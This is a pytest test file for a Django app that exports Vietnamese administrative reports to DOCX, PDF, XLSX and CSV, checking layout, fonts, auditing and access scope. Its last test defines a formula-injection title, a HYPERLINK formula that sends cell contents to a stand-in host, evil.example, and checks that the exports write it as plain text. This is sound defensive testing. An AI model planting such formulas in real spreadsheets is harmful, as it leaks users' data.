from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from docx import Document
from docx.shared import Mm
from openpyxl import load_workbook

from danvan.conftest import Units, client_for
from danvan.core.models import AuditAction, AuditEntry
from danvan.reporting import exports, selectors, services
from danvan.reporting.models import Period, Report
from danvan.reporting.tests.conftest import MANUAL_COUNT
from danvan.reporting.tests.test_reports import SECTIONS

pytestmark = pytest.mark.django_db

ARTIFACTS = Path(__file__).resolve().parents[4] / "test-artifacts" / "reporting"


@pytest.fixture
def province_report(units: Units, year: Period, pat: Any, alice: Any) -> Report:
    services.enter_manual_figure(
        actor=alice, indicator_code=MANUAL_COUNT, unit=units.commune_a, period=year, value=4
    )
    services.set_target(actor=pat, indicator_code=MANUAL_COUNT, unit=units.province, period=year, value=5)
    report = services.start_report(actor=pat, unit=units.province, period=year)
    report = services.update_report(actor=pat, report=report, version=report.version, number="15-BC/BTGDVTU",
                                    signer_name="Hoàng Văn Minh", **SECTIONS)  # fmt: skip
    return report


def _text(document: Any) -> str:
    parts = [p.text for p in document.paragraphs]
    for table in document.tables:
        for row in table.rows:
            parts += [c.text for c in row.cells]
    return "\n".join(parts)


def test_the_docx_follows_the_administrative_format_for_a_party_body(province_report: Report) -> None:
    data = exports.report_docx(province_report, selectors.report_tables(province_report))
    document = Document(io.BytesIO(data))
    section = document.sections[0]
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (210, 297)
    tol = Mm(0.1)  # Word stores margins in twips
    assert (
        Mm(20) - tol <= section.top_margin <= Mm(25) + tol
        and Mm(20) - tol <= section.bottom_margin <= Mm(25) + tol
    )
    assert (
        Mm(30) - tol <= section.left_margin <= Mm(35) + tol
        and Mm(15) - tol <= section.right_margin <= Mm(20) + tol
    )
    assert document.styles["Normal"].font.name == "Times New Roman"
    assert 13 <= document.styles["Normal"].font.size.pt <= 14
    text = _text(document)
    assert "ĐẢNG CỘNG SẢN VIỆT NAM" in text and "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" not in text
    assert "BAN TUYÊN GIÁO VÀ DÂN VẬN" in text and "Số 15-BC/BTGDVTU" in text
    assert re.search(r"Lạng Sơn, ngày \d\d tháng \d+ năm \d{4}", text)
    for label in (
        "KẾT QUẢ THỰC HIỆN",
        "HẠN CHẾ, NGUYÊN NHÂN",
        "BÀI HỌC KINH NGHIỆM",
        "NHIỆM VỤ, GIẢI PHÁP KỲ TỚI",
    ):
        assert label in text
    assert "Mô hình đăng ký (nhập tay, thử)" in text and "80,0%" in text  # 4 of a target of 5
    fonts = {r.font.name for p in document.paragraphs for r in p.runs if r.text.strip()}
    assert fonts == {"Times New Roman"}


def test_a_state_body_report_carries_the_national_motto(units: Units, year: Period, alice: Any) -> None:
    report = services.start_report(actor=alice, unit=units.commune_a, period=year, body_kind="state")
    text = _text(Document(io.BytesIO(exports.report_docx(report, selectors.report_tables(report)))))
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in text and "Độc lập - Tự do - Hạnh phúc" in text
    # too long for one line of its column: broken before the unit's type, not inside "ĐÔNG KINH" (#20)
    assert f"ỦY BAN NHÂN DÂN\n{units.commune_a.name.upper()}" in text


@pytest.mark.xdist_group("soffice")
def test_the_exported_docx_renders_to_an_a4_pdf_in_times_new_roman(
    province_report: Report, tmp_path: Path
) -> None:
    soffice = shutil.which("soffice") or "/usr/bin/soffice"
    if not Path(soffice).exists():
        pytest.fail("LibreOffice (soffice) is required to render the DOCX")
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    docx_path = ARTIFACTS / "bao-cao-tinh.docx"
    docx_path.write_bytes(exports.report_docx(province_report, selectors.report_tables(province_report)))
    subprocess.run(
        [soffice, f"-env:UserInstallation=file://{tmp_path}/lo", "--headless", "--convert-to", "pdf",
         "--outdir", str(ARTIFACTS), str(docx_path)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    pdf = ARTIFACTS / "bao-cao-tinh.pdf"
    assert pdf.exists() and pdf.read_bytes().startswith(b"%PDF")
    info = subprocess.run(["pdfinfo", str(pdf)], check=True, capture_output=True, text=True).stdout
    size = re.search(r"Page size:\s+([\d.]+) x ([\d.]+) pts", info)
    assert size and abs(float(size[1]) - 595.3) < 2 and abs(float(size[2]) - 841.9) < 2  # A4
    fonts = subprocess.run(["pdffonts", str(pdf)], check=True, capture_output=True, text=True).stdout
    # Times New Roman, or its metric-compatible substitute where the font is not installed
    assert re.search(r"TimesNewRoman|Times-Roman|LiberationSerif", fonts), fonts
    assert "Bold" in fonts  # headings and the header block
    if shutil.which("pdftoppm"):
        subprocess.run(["pdftoppm", "-png", "-r", "70", "-f", "1", "-l", "2", str(pdf), str(ARTIFACTS / "bao-cao-tinh")],
                       check=True, timeout=60)  # fmt: skip
        assert list(ARTIFACTS.glob("bao-cao-tinh-*.png"))


def test_xlsx_and_csv_exports_contain_every_table_and_are_audited(
    province_report: Report, pat: Any, units: Units
) -> None:
    client = client_for(pat)
    response = client.get(f"/reporting/reports/{province_report.pk}/export.xlsx")
    assert response.status_code == 200 and response["Content-Type"] == exports.XLSX_MIME
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Chỉ tiêu", "Đơn vị trực thuộc"]
    units_sheet = workbook["Đơn vị trực thuộc"]
    assert units_sheet.max_row - 2 == len(selectors.child_ids(selectors.unit_index(), units.province.pk))
    response = client.get(f"/reporting/reports/{province_report.pk}/export.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:2] == ["Mã", "Chỉ tiêu"]
    assert any(r[0] == MANUAL_COUNT and r[3] == "4.0" for r in rows)
    docx = client.get(f"/reporting/reports/{province_report.pk}/export.docx")
    assert docx.status_code == 200 and docx.content[:2] == b"PK"
    exports_logged = AuditEntry.objects.filter(action=AuditAction.EXPORT, object_id=str(province_report.pk))
    assert exports_logged.count() == 3


def test_figure_exports_go_through_the_scope(units: Units, year: Period, alice: Any) -> None:
    client = client_for(alice)
    assert (
        client.get(f"/reporting/figures.csv?period={year.pk}&unit={units.province.code}").status_code == 404
    )
    ok = client.get(f"/reporting/figures.xlsx?period={year.pk}&unit={units.commune_a.code}")
    assert ok.status_code == 200
    assert AuditEntry.objects.filter(action=AuditAction.EXPORT, unit_id=units.commune_a.pk).count() == 1


FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def test_a_report_title_that_looks_like_a_formula_is_written_as_text_on_every_xlsx_sheet_and_in_the_csv(
    province_report: Report, pat: Any
) -> None:
    import zipfile

    report = services.update_report(
        actor=pat, report=province_report, version=province_report.version, title=FORMULA_TITLE
    )
    client = client_for(pat)
    data = client.get(f"/reporting/reports/{report.pk}/export.xlsx").content
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 2
        for name in sheets:
            assert "<f>" not in archive.read(name).decode()  # no live formula anywhere
    workbook = load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        cell = sheet["A1"]
        assert cell.value == FORMULA_TITLE and cell.data_type == "s" and cell.quotePrefix
    csv_text = client.get(f"/reporting/reports/{report.pk}/export.csv").content.decode("utf-8-sig")
    assert all(
        not cell.startswith(("=", "+", "-", "@")) for row in csv.reader(io.StringIO(csv_text)) for cell in row
    )
